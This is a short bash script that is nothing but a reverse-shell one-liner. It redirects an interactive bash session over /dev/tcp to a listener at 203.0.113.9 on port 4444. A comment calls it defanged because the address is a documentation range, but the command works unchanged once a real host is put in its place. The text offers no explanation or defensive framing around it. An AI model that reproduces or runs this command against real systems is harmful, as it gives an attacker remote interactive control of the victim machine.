#!/bin/bash
# Defanged: 203.0.113.0/24 is a documentation range (TEST-NET-3).
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
